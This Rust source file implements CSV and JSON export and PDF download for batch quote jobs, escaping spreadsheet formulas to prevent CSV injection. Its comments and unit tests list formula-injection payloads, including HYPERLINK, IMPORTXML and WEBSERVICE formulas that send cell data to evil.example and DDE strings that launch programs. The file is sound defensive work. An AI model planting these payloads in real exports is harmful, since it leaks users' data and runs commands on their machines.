//! Downloads: `export_quotes` as CSV (RFC 4180: header row, CRLF, fields with a comma, a
//! quote or a line break quoted, quotes doubled) or JSON, built from the items' results in
//! list order; `generate_pdfs` as the PDF of one quote (`?quote_id=`), from `quote_documents`.
//!
//! # Formulas
//!
//! A spreadsheet opening the CSV runs any cell that starts with `=`, `+`, `-` or `@` as a
//! formula (`=HYPERLINK("http://…"&A2, "Fix")` sends the row away; DDE payloads start
//! programs), and tab or carriage return in front of one are skipped on import. Quote fields
//! are the user's (and their clients') free text, so, as OWASP's CSV injection guidance says,
//! such a cell is written with a leading `'`, which spreadsheets show as text and do not
//! evaluate; then RFC 4180 quoting applies as usual. Input is trimmed when a quote is saved
//! (`crate::quote`), so a stored value rarely starts with whitespace, but rows written
//! another way might: whitespace followed by a formula character is treated the same.
//!
//! A cell that is a plain number — an optional sign, digits, an optional decimal part
//! (`-12.50`, `+15035550142`) — is left as it is: it cannot be a formula, and a quote in
//! front would turn amounts into text. The JSON export is data, not a sheet: unchanged.

use serde_json::{json, Value};
use shared::db;
use shared::{Context, FieldError, Problem, Response};

/// The CSV columns, in order (each a field of an exported quote). `currency` (ISO 4217) stands
/// before the amounts it applies to: a sheet of quotes in several currencies cannot be summed
/// without it.
pub const CSV_COLUMNS: &[&str] = &[
    "id",
    "quote_number",
    "status",
    "client_name",
    "client_email",
    "client_phone",
    "client_address",
    "line_item_count",
    "currency",
    "subtotal",
    "markup_rate",
    "markup_amount",
    "tax_rate",
    "tax_amount",
    "total",
    "valid_until",
    "is_template",
    "notes",
    "created_at",
    "updated_at",
];

/// One CSV field: a formula made inert (see the module's notes), then quoted when it holds a
/// comma, a quote, CR or LF; quotes doubled.
pub fn csv_field(s: &str) -> String {
    let s = inert(s);
    if s.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 4] = ['=', '+', '-', '@'];

/// `s`, with a leading `'` when a spreadsheet would evaluate it.
fn inert(s: &str) -> std::borrow::Cow<'_, str> {
    let first = s.chars().next();
    let after_blanks = s.trim_start_matches([' ', '\t', '\r', '\n']).chars().next();
    let formula = matches!(first, Some('\t' | '\r'))
        || first.is_some_and(|c| FORMULA_START.contains(&c))
        || after_blanks.is_some_and(|c| FORMULA_START.contains(&c));
    if formula && !is_plain_number(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// An optional sign, digits, and an optional `.` with digits: nothing a spreadsheet could run.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

fn cell(q: &Value, column: &str) -> String {
    match (column, &q[column]) {
        ("line_item_count", _) => q["line_items"].as_array().map(|a| a.len()).unwrap_or(0).to_string(),
        (_, Value::Null) => String::new(),
        (_, Value::String(s)) => s.clone(),
        (_, v) => v.to_string(),
    }
}

pub fn csv(quotes: &[Value]) -> String {
    let mut out = String::new();
    out.push_str(&CSV_COLUMNS.join(","));
    out.push_str("\r\n");
    for q in quotes {
        let row: Vec<String> = CSV_COLUMNS.iter().map(|c| csv_field(&cell(q, c))).collect();
        out.push_str(&row.join(","));
        out.push_str("\r\n");
    }
    out
}

/// GET /jobs/{id}/download?format=csv|json (export_quotes) or ?quote_id= (generate_pdfs).
pub fn download(ctx: &Context, id: &str) -> Result<Response, Problem> {
    let caller = ctx.user()?;
    let id = super::jobs::job_id(id)?;
    let req = &ctx.request;
    ctx.db()?.as_user(&caller.claims_json, |db| -> Result<Response, Problem> {
        let rows = db.query("SELECT operation, status, options FROM public.batch_jobs WHERE id = $1", &[db::uuid(&id)])?;
        let Some(job) = rows.first() else { return Err(Problem::not_found(format!("no batch job {id}"))) };
        let operation = job.string("operation")?;
        let status = job.string("status")?;
        if matches!(status.as_str(), "pending" | "running") {
            return Err(Problem::new(409, "job_not_finished", "The job has not finished")
                .detail(format!("the job is {status}; download it when it is completed")));
        }
        match operation.as_str() {
            "export_quotes" => {
                let default = job.json("options")?.and_then(|o| o["format"].as_str().map(str::to_string));
                let format = req.query_param("format").or(default).unwrap_or_else(|| "csv".into());
                if format != "csv" && format != "json" {
                    return Err(Problem::validation(vec![FieldError::new("format", "invalid_value", "format must be csv or json")]));
                }
                let items = db.query(
                    "SELECT result FROM public.batch_job_items WHERE job_id = $1 AND status = 'processed' ORDER BY position",
                    &[db::uuid(&id)],
                )?;
                let quotes: Vec<Value> = items.iter().filter_map(|r| r.json("result").ok().flatten()).collect();
                let name = format!("quotes-export-{}", &id[..8]);
                Ok(if format == "csv" {
                    Response::bytes(200, "text/csv; charset=utf-8; header=present", csv(&quotes).into_bytes())
                        .header("content-disposition", format!("attachment; filename=\"{name}.csv\""))
                } else {
                    let body = json!({ "job_id": id, "count": quotes.len(), "quotes": quotes });
                    Response::ok(&body).header("content-disposition", format!("attachment; filename=\"{name}.json\""))
                })
            }
            "generate_pdfs" => {
                let Some(quote_id) = req.query_param("quote_id").filter(|q| shared::params::is_uuid(q)) else {
                    return Err(Problem::validation(vec![FieldError::new("quote_id", "required", "quote_id (a UUID of this job's quotes) is required")]));
                };
                let quote_id = quote_id.to_ascii_lowercase();
                let doc = db.query(
                    "SELECT encode(d.content, 'hex') AS content, i.result->>'filename' AS filename
                     FROM public.batch_job_items i
                     JOIN public.quote_documents d ON d.quote_id = (i.item->>0)::uuid AND d.sha256 = i.result->>'sha256'
                     WHERE i.job_id = $1 AND i.item = to_jsonb($2::text) AND i.status = 'processed'
                     ORDER BY d.created_at DESC LIMIT 1",
                    &[db::uuid(&id), db::text(quote_id.clone())],
                )?;
                let Some(d) = doc.first() else {
                    return Err(Problem::not_found(format!("no generated PDF of quote {quote_id} in this job")));
                };
                let content = unhex(&d.string("content")?).ok_or_else(Problem::internal)?;
                let filename = d.text("filename")?.unwrap_or_else(|| format!("{quote_id}.pdf"));
                Ok(Response::bytes(200, "application/pdf", content)
                    .header("content-disposition", format!("attachment; filename=\"{}\"", filename.replace('"', ""))))
            }
            other => Err(Problem::new(409, "nothing_to_download", "This job has no file")
                .detail(format!("{other} jobs have no download; see GET /jobs/{id}?items=true for per-item results"))),
        }
    })
}

fn unhex(s: &str) -> Option<Vec<u8>> {
    let b = s.as_bytes();
    if !b.len().is_multiple_of(2) {
        return None;
    }
    b.chunks(2).map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_commas_quotes_and_line_breaks() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        let out =
            csv(&[json!({"id": "x", "client_name": "O'Neil, \"Bob\"", "line_items": [1, 2], "is_template": false,
                                "currency": "KWD", "subtotal": "4.011"})]);
        let mut lines = out.split("\r\n");
        assert_eq!(lines.next().unwrap(), CSV_COLUMNS.join(","));
        assert!(lines.next().unwrap().starts_with("x,,,\"O'Neil, \"\"Bob\"\"\",,,,2,KWD,4.011,"));
    }

    /// Formula payloads from OWASP's CSV injection page and public cheat sheets.
    const FORMULAS: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2&B2,\"Error: click to fix\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "=2+5+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "=1+1",
        "=A1",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\t\t-1+1",
        " =1+1",
        "\n+A1",
        "=\"a\",\"b\"",
        "-",
        "+",
        "=",
        "@",
    ];

    /// What a spreadsheet sees in a field: RFC 4180 unquoted.
    fn unquoted(field: &str) -> String {
        match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
            Some(inner) => inner.replace("\"\"", "\""),
            None => field.to_string(),
        }
    }

    #[test]
    fn formula_payloads_are_written_as_text() {
        for payload in FORMULAS {
            let seen = unquoted(&csv_field(payload));
            assert_eq!(seen, format!("'{payload}"), "{payload:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_alone() {
        for plain in
            ["-12.50", "+15035550142", "42", "0.5", "12.50", "O'Brien", "a=b", "e-mail", "x@y.example", "'quoted"]
        {
            assert_eq!(unquoted(&csv_field(plain)), plain, "{plain:?}");
        }
        // Not numbers: a sign with something else after it.
        for not_number in ["-12.", "-.5", "+1 555 0100", "-1e5", "-0x10", "--1"] {
            assert!(unquoted(&csv_field(not_number)).starts_with('\''), "{not_number:?}");
        }
    }

    #[test]
    fn an_inert_formula_with_a_comma_is_still_one_field() {
        let row =
            csv(&[json!({"id": "x", "client_name": "=HYPERLINK(\"http://evil.example\",\"a, b\")", "line_items": []})]);
        let line = row.split("\r\n").nth(1).unwrap();
        assert!(line.starts_with("x,,,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"a, b\"\")\","), "{line}");
    }
}
